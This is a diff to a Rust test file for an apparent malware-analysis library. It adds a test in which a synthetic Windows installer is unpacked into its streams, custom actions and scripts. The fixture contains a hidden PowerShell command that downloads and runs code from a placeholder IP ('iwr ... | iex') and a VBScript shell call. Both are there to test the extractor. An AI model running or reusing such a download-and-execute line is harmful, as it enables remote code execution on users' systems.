@@ -11,7 +11,7 @@
 
 use std::time::{Duration, Instant};
 use watchfire_formats::executable::authenticode::{self, Trust};
-use watchfire_formats::executable::{read, similarity, unpack_cabinet};
+use watchfire_formats::executable::{read, similarity, unpack_cabinet, unpack_installer};
 use watchfire_formats::identify::{identify, media};
 use watchfire_model::executable::elf::{Relro, StackProtection};
 use watchfire_model::executable::pe::{ImportedFunction, PeKind};
@@ -20,8 +20,8 @@ use watchfire_model::executable::{Authenticode, Executable, MarkKind, Pe as PeFa
 use watchfire_model::{Budget, Halt, Hints, MediaType, Member, MemberSink, Moment, Problem};
 use watchfire_testkit::compound::{Node, compound};
 use watchfire_testkit::executable::{
-    Elf, Pe, Section, Signing, cabinet, catalog, dex, fat, java_class, mach_o, python, root_certificate, sign, version,
-    wasm,
+    Elf, Installer, Pe, Section, Signing, cabinet, catalog, dex, fat, java_class, mach_o, python, root_certificate,
+    sign, version, wasm,
 };
 
 /// Reads a file as what it is taken for, which has to be `media_type`; nothing may be wrong with it.
@@ -563,3 +563,79 @@ fn digests_of_similarity_are_those_of_their_programs() {
 const TLSH: &str = "T16E1278BCA4ECF2CD191FFBC4EB17D896DA5A122A1B09442F42998DA02A47715EFC3850";
 const SSDEEP: &str =
     "192:TihITrZPncfvbjqV6FQGXyp9t6XcrOozOVn1wzl4ON8wcWezT5dow5pjVdkSI7Un:Tii/Z/cfQuyjYMrOoYYNVcToCd3AQ";
+
+/// The members of a package by their names.
+fn members_of(package: &[u8]) -> Vec<(String, Vec<u8>)> {
+    #[derive(Default)]
+    struct Kept(Vec<(String, Vec<u8>)>);
+    impl MemberSink for Kept {
+        fn member(&mut self, member: Member) -> Result<(), Halt> {
+            self.0.push((member.name.raw().to_owned(), member.bytes));
+            Ok(())
+        }
+        fn problem(&mut self, problem: Problem) {
+            panic!("{problem:?}");
+        }
+    }
+    let mut kept = Kept::default();
+    unpack_installer(package, &Budget::default(), &mut kept).unwrap();
+    kept.0.sort();
+    kept.0
+}
+
+#[test]
+fn packages_hand_out_what_they_bring_and_what_they_do() {
+    let inner = cabinet(&[("fil1", b"MZ program")]);
+    let package = Installer {
+        streams: vec![
+            ("data.cab", inner.clone()),
+            ("Binary.helper.dll", b"MZ a library that an action calls".repeat(200)),
+            ("Icon.app", vec![0, 0, 1, 0]),
+        ],
+        actions: vec![
+            (
+                "RunIt",
+                0xc22,
+                "TARGETDIR",
+                "powershell -nop -w hidden -c \"iwr http://198.51.100.7/a | iex\"",
+            ),
+            ("Call", 1, "helper.dll", "Start"),
+            ("Script", 38, "", "CreateObject(\"WScript.Shell\").Run \"calc\""),
+        ],
+        files: vec![("fil1", "SETUP~1.EXE|setup-helper.exe")],
+    };
+    let members = members_of(&package.build());
+    let names: Vec<&str> = members.iter().map(|(name, _)| name.as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            "Binary.helper.dll",
+            "CustomAction.Script.vbs",
+            "CustomAction.txt",
+            "File.txt",
+            "Icon.app",
+            "data.cab"
+        ]
+    );
+    let content = |wanted: &str| {
+        let (_, bytes) = members.iter().find(|(name, _)| name == wanted).unwrap();
+        bytes.clone()
+    };
+    assert_eq!(content("data.cab"), inner);
+    assert_eq!(content("Binary.helper.dll").len(), 33 * 200);
+    assert_eq!(
+        String::from_utf8(content("CustomAction.txt")).unwrap(),
+        "RunIt\t3106\tTARGETDIR\tpowershell -nop -w hidden -c \"iwr http://198.51.100.7/a | iex\"\n\
+         Call\t1\thelper.dll\tStart\n"
+    );
+    assert_eq!(
+        content("CustomAction.Script.vbs"),
+        b"CreateObject(\"WScript.Shell\").Run \"calc\""
+    );
+    assert_eq!(content("File.txt"), b"fil1\tMain\tSETUP~1.EXE|setup-helper.exe\n");
+    // One without tables has its streams all the same.
+    assert_eq!(
+        members_of(&compound(&[Node::Stream("\u{4801}".to_owned(), vec![1])])).len(),
+        1
+    );
+}
